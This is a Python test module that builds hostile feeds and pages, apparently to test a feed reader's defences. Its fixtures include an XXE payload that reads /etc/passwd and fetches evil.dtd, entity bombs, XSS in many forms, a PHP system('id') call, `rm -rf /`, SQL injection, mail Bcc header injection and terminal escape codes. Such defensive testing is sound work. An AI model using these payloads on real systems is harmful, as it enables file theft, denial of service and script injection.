"""Hostile documents, continued: feeds and pages that attack readers, titles that attack mails and screens."""

from __future__ import annotations

import json

from demo.hostile.case import (
    ANY_FEED,
    GOOD_PAGE,
    HTML_TYPE,
    NOT_TAKEN,
    SECRET,
    Reply,
    Site,
    Where,
    case,
    http,
    item,
    one_story,
    page,
    rss,
)
from demo.hostile.feeds import JSON_TYPE, feed_of
from demo.hostile.pages import story_of

DATE = "<pubDate>{}</pubDate>"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


# --- XML --------------------------------------------------------------------------------------


@case("parameter-entities", "feed", ANY_FEED)
def parameter_entities(where: Where) -> Site:
    """Parameter entities that read a file and send it to a guarded address."""
    guarded = where.guarded[0]
    inner = f'<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "{guarded}/evil.dtd">%d;%f;'
    return feed_of(rss(item(f"{where.root}/a"), f"<!DOCTYPE rss [{inner}]>"))


@case("entity-in-attribute", "feed", ANY_FEED)
def entity_attribute(where: Where) -> Site:
    """An entity bomb inside an attribute, and entities that name each other."""
    entities = '<!ENTITY e0 "xxxxxxxxxx">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
    circle = '<!ENTITY a "&b;"><!ENTITY b "&a;">'
    text = rss(
        item(f"{where.root}/a", "&a;").replace("<item>", '<item x="&e8;">'), f"<!DOCTYPE rss [{entities}{circle}]>"
    )
    return feed_of(text)


@case("entities-of-html", "feed", ANY_FEED)
def html_entities(where: Where) -> Site:
    """Half a million named entities, known and unknown, in a summary."""
    summary = "&amp;nbsp;&amp;bogus;&nbsp;&hellip;" * 20_000
    return feed_of(rss(item(f"{where.root}/a", extra=f"<description>{summary}</description>")))


@case("namespaces-by-the-thousand", "feed", ANY_FEED)
def namespaces(where: Where) -> Site:
    """Ten thousand elements, each in a namespace of its own."""
    extra = "".join(f'<n{n}:x xmlns:n{n}="urn:{n}">y</n{n}:x>' for n in range(10_000))
    return feed_of(rss(item(f"{where.root}/a", extra=extra)))


@case("instructions-of-php", "feed", ANY_FEED)
def instructions(where: Where) -> Site:
    """Processing instructions of a megabyte, PHP left in the feed, and a second XML declaration."""
    prolog = f"<?php echo system('id'); ?><?x {'y' * 1_000_000}?><?xml version='1.0'?>"
    return feed_of(rss(item(f"{where.root}/a"), prolog))


@case("cdata-without-end", "feed", ANY_FEED)
def open_cdata(where: Where) -> Site:
    """A title whose CDATA of 2 MB is never closed."""
    return feed_of(rss(item(f"{where.root}/a", f"<![CDATA[{'x' * 2_000_000}")))


@case("cdata-by-the-thousand", "feed", ANY_FEED)
def many_cdata(where: Where) -> Site:
    """A title in a hundred thousand pieces of CDATA."""
    return feed_of(rss(item(f"{where.root}/a", "<![CDATA[x]]>" * 100_000)))


@case("channels-within-channels", "feed", ANY_FEED)
def nested_channels(where: Where) -> Site:
    """Items within items within channels, five thousand deep."""
    return feed_of(rss("<channel><item>" * 5000 + item(f"{where.root}/a") + "</item></channel>" * 5000))


@case("atom-links-by-the-thousand", "feed", ANY_FEED)
def atom_links(where: Where) -> Site:
    """An Atom entry with fifty thousand links and as many categories."""
    links = "".join(f'<link rel="alternate" href="{where.root}/{n}"/><category term="c{n}"/>' for n in range(50_000))
    text = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><id>x</id>'
        f"<entry><title>Talks</title><id>1</id>{links}</entry></feed>"
    )
    return feed_of(text, "application/atom+xml")


@case("xhtml-in-atom", "feed", ANY_FEED, never_markup=("<script", "onload="))
def xhtml_content(where: Where) -> Site:
    """Atom content of type xhtml, html and text/html;base64 with script in each."""
    bad = "<script>alert(1)</script><svg onload='alert(2)'/>"
    escaped = bad.replace("<", "&lt;")
    entries = "".join(
        f'<entry><title type="{kind}">{text}</title><id>{n}</id><link href="{where.root}/{n}"/>'
        f'<content type="{kind}">{text}</content></entry>'
        for n, (kind, text) in enumerate(
            [
                ("xhtml", f'<div xmlns="http://www.w3.org/1999/xhtml">{bad}</div>'),
                ("html", escaped),
                ("text/html", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
            ]
        )
    )
    return feed_of(
        f'<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>{entries}</feed>', "application/atom+xml"
    )


@case("feed-in-page", "feed", frozenset(NOT_TAKEN | ANY_FEED))
def feed_in_page(where: Where) -> Site:
    """A web page with a whole feed in its text."""
    return feed_of(page(body=f"<pre>{rss(item(f'{where.root}/a'))}</pre>"), HTML_TYPE)


@case("json-items-by-the-million", "feed", ANY_FEED)
def json_many(where: Where) -> Site:
    """A JSON Feed of sixty thousand items and a title of 1 MB."""
    items = ",".join(f'{{"id":"{n}","url":"{where.root}/{n}","title":"T"}}' for n in range(60_000))
    text = f'{{"version":"https://jsonfeed.org/version/1.1","title":"{"x" * 1_000_000}","items":[{items}]}}'
    return feed_of(text, JSON_TYPE)


@case("json-repeated-keys", "feed", ANY_FEED)
def json_keys(where: Where) -> Site:
    """A JSON Feed with fifty thousand repeated keys, NaN, Infinity, half a pair of UTF-16 and __proto__."""
    keys = "".join('"url":"javascript:alert(1)",' for _ in range(50_000))
    first = f'{{"id":"1",{keys}"url":"{where.root}/a","title":"\\ud800 \\u202e \\u0000","x":NaN,"y":Infinity}}'
    return feed_of(
        f'{{"version":"https://jsonfeed.org/version/1.1","__proto__":{{"a":1}},"items":[{first}]}}', JSON_TYPE
    )


@case("sitemap-of-a-million", "feed", ANY_FEED)
def sitemap_many(where: Where) -> Site:
    """A sitemap of a hundred thousand addresses, each of 60 letters, with dates that are none."""
    urls = "".join(f"<url><loc>{where.root}/{n:060d}</loc><lastmod>soon</lastmod></url>" for n in range(50_000))
    space = "http://www.sitemaps.org/schemas/sitemap/0.9"
    return feed_of(f'<?xml version="1.0"?><urlset xmlns="{space}">{urls}</urlset>', "application/xml")


# --- character sets ---------------------------------------------------------------------------


@case("charset-utf16-without-mark", "feed", ANY_FEED)
def utf16_bare(where: Where) -> Site:
    """UTF-16 without a byte order mark, in the order that nobody expects."""
    return feed_of(rss(item(f"{where.root}/a")).encode("utf-16-be"), "application/rss+xml")


@case("charset-utf32", "feed", ANY_FEED)
def utf32(where: Where) -> Site:
    """UTF-32, four bytes a letter."""
    return feed_of(rss(item(f"{where.root}/a")).encode("utf-32"), "application/rss+xml")


@case("charset-overlong", "feed", ANY_FEED, never_markup=("<script",))
def overlong(where: Where) -> Site:
    """UTF-8 with overlong forms of brackets and quotation marks."""
    text = rss(item(f"{where.root}/a", "Talks \0script\0")).encode().replace(b"\0script\0", b"\xc0\xbcscript\xc0\xbe")
    return feed_of(text)


@case("charset-iso-2022", "page", never_markup=("<script",))
def iso_2022(where: Where) -> Site:
    """A page in ISO-2022-JP whose escape sequences hide script."""
    text = page().encode().replace(b"railway", b"rail\x1b$B<script>alert(1)</script>\x1b(Bway")
    return story_of(where, text, "text/html; charset=iso-2022-jp")


@case("nul-between-letters", "feed", ANY_FEED)
def nul_letters(where: Where) -> Site:
    """NUL bytes between the letters of tags and text."""
    return feed_of(b"\0".join(bytes([byte]) for byte in rss(item(f"{where.root}/a")).encode()))


# --- what a title may do ----------------------------------------------------------------------


@case("title-turns-direction", "feed")
def title_bidi(where: Where) -> Site:
    """Every control of direction, opened and never closed, in title, author and link."""
    extra = f"<dc:creator>{BIDI}rohtua</dc:creator>"
    return feed_of(rss(item(f"{where.root}/a", f"Armenia and Azerbaijan {BIDI}klat", extra)))


@case("title-is-invisible", "feed")
def title_invisible(where: Where) -> Site:
    """A title of zero-width characters, tags and variation selectors alone."""
    return feed_of(rss(item(f"{where.root}/a", "\u200b\u200c\u200d\u2060\ufeff\U000e0041\ufe0f\u00ad" * 200)))


@case("title-of-combining-marks", "feed")
def title_zalgo(where: Where) -> Site:
    """A title with five thousand combining marks on one letter."""
    return feed_of(rss(item(f"{where.root}/a", "Armenia a" + "\u0301\u0489" * 2500 + " talks")))


@case("title-as-headers", "feed", never=("\nBcc:", "\rBcc:", "\u2028Bcc:"))
def title_headers(where: Where) -> Site:
    """Every kind of line break in a title, before words that would be headers of a mail."""
    breaks = ("&#10;", "&#13;", "&#13;&#10;", "&#x85;", "\u2028", "\u2029", "&#11;", "&#12;", "%0d%0a", "\\r\\n")
    title = "Armenia talks" + "".join(f"{each}Bcc: all@hostile.example" for each in breaks)
    return feed_of(rss(item(f"{where.root}/a", title, f"<dc:creator>{title}</dc:creator>")))


@case("title-as-encoded-word", "feed")
def title_encoded(where: Where) -> Site:
    """A title that is an encoded word of a mail, with a line break and an address inside."""
    return feed_of(rss(item(f"{where.root}/a", "=?utf-8?b?QXJtZW5pYQ0KQmNjOiBhQGIuZXhhbXBsZQ==?= Armenia")))


@case("title-as-terminal-codes", "feed", never=("\x1b", "\x9b"))
def title_terminal(where: Where) -> Site:
    """Escape sequences that would clear a terminal, set its title and ring its bell."""
    title = "Armenia &#x1b;[2J \x1b]0;owned\x07 \x9b31m &#155;6n talks"
    return feed_of(rss(item(f"{where.root}/a", title)))


@case("title-as-markdown", "feed", never_markup=("javascript:",))
def title_markdown(where: Where) -> Site:
    """A title of Markdown, wiki marks, shell and SQL, which must come out as it went in."""
    title = "Armenia [talks](javascript:alert(1)) `rm -rf /` $(id) '; DROP TABLE articles; -- {{constructor}}"
    return feed_of(rss(item(f"{where.root}/a", title)))


@case("author-as-address", "feed", never=(SECRET,))
def author_address(where: Where) -> Site:
    """Authors that are mail addresses with quotes, commas and brackets, which would add receivers."""
    names = ('"A, B" &lt;all@hostile.example&gt;, c@d.example', "x@y.example (Armenia)", "&lt;&lt;&gt;&gt;@@;:,")
    return feed_of(rss(item(f"{where.root}/a", extra="".join(f"<author>{name}</author>" for name in names))))


# --- times ------------------------------------------------------------------------------------


@case("all-in-the-future", "feed")
def future(where: Where) -> Site:
    """Twenty items, each a day further ahead than the one before."""
    items = (item(f"{where.root}/{n}", extra=DATE.format(f"{n + 1:02d} Jan 2077 00:00:00 +1400")) for n in range(20))
    return feed_of(rss("".join(items)))


@case("dates-in-odd-numbers", "feed", ANY_FEED)
def odd_numbers(where: Where) -> Site:
    """Dates in Arabic, full-width and Roman numbers, as 10^300, as minus seconds, and as a year of six digits."""
    stamps = (
        "２０２６-０１-０１",
        "١ يناير ٢٠٢٦",
        "I Jan MMXXVI",
        "1e300",
        "-62135596801",
        "+275760-09-13",
        "24:60:60",
    )
    return feed_of(rss("".join(item(f"{where.root}/{n}", extra=DATE.format(s)) for n, s in enumerate(stamps))))


@case("page-dates-disagree", "page")
def dates_disagree(where: Where) -> Site:
    """A page that states eight times of publication, none of them like another."""
    metas = "".join(
        f'<meta property="article:published_time" content="{stamp}"><meta name="date" content="{stamp}">'
        for stamp in ("1601-01-01", "2099-12-31T23:59:59Z", "2026-02-31", "tomorrow")
    )
    return story_of(where, page(extra_head=metas, body="<time datetime='9999-99-99T99:99'>now</time>"))


# --- pages ------------------------------------------------------------------------------------


@case("page-title-of-megabytes", "page")
def page_title(where: Where) -> Site:
    """A headline of 3 MB."""
    return story_of(where, page("Armenia " * 400_000))


@case("page-tables-within-tables", "page")
def page_tables(where: Where) -> Site:
    """Tables nested thirty thousand deep."""
    return story_of(where, page(body="<table><tr><td>" * 30_000 + "x"))


@case("page-scripts", "page", never_markup=("<script", "onfocus=", "srcdoc=", "vbscript:"))
def page_scripts(where: Where) -> Site:
    """Script in svg, math, style, iframe srcdoc, noscript, comments and broken attributes."""
    bad = (
        "<svg><script>alert(1)</script></svg><math><mtext><script>x</script></mtext></math>"
        "<iframe srcdoc='&lt;script&gt;'></iframe><noscript><p title='</noscript><img src=x onerror=y>'></noscript>"
        "<input onfocus=alert(2) autofocus><a href='vbscript:x'>Armenia</a><!--><script>z</script>-->"
        "<style>@import 'x'</style>"
    )
    return story_of(where, page("Armenia and Azerbaijan talk", f"<p>{bad}</p>"))


@case("page-data-addresses", "page")
def page_data(where: Where) -> Site:
    """Canonical address, picture and base as data: addresses of 1 MB."""
    data = "data:text/html;base64," + "QUFB" * 250_000
    extra = f'<link rel="canonical" href="{data}"><meta property="og:image" content="{data}">'
    return story_of(where, page(extra_head=extra))


@case("page-json-ld-of-others", "page")
def page_json(where: Where) -> Site:
    """Structured data with repeated keys, numbers of 50,000 digits, and a graph that names itself."""
    text = '{"@type":"NewsArticle","wordCount":' + "9" * 50_000 + ',"headline":"a","headline":{"@id":"#a"},"@id":"#a"}'
    graph = json.dumps({"@graph": [{"@id": "#b", "isPartOf": {"@id": "#b"}}] * 2000})
    tags = "".join(f'<script type="application/ld+json">{each}</script>' for each in (text, graph))
    return story_of(where, page(extra_head=tags))


@case("page-as-pdf", "page")
def page_pdf(where: Where) -> Site:
    """A PDF under the story's address, announced as a web page."""
    return story_of(where, b"%PDF-1.7\n" + bytes(range(256)) * 2000)


@case("page-that-changes-its-type", "page")
def page_type(where: Where) -> Site:
    """A page announced as JavaScript, one as an XML feed, one without a type."""
    stories: dict[str, Reply] = {
        "/story": http(page(), "application/javascript"),
        "/second": http(page("Second talks"), "application/rss+xml"),
        "/third": http(page("Third talks")).replace(b"Content-Type", b"X-Type", 1),
    }
    items = "".join(item(where.root + path, f"Talks {path}") for path in stories)
    return {**stories, "/feed.xml": http(rss(items)), "*": GOOD_PAGE}


@case("page-log-lines", "page", never=("\nCRITICAL",))
def page_log(where: Where) -> Site:
    """An address and a title that would write lines of their own into a log."""
    return one_story(
        where, http(page("Talks\nCRITICAL all is lost"), HTML_TYPE), title="Talks&#10;CRITICAL all is lost"
    )
